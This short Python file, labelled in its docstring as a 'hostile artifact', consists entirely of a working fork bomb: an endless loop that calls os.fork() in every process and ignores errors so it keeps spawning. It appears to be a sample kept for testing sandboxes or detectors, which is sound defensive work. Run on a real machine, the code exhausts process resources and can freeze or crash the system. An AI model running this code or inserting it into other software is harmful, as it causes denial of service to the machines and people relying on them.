"""Hostile artifact: fork for ever, in every child too, ignoring failures."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
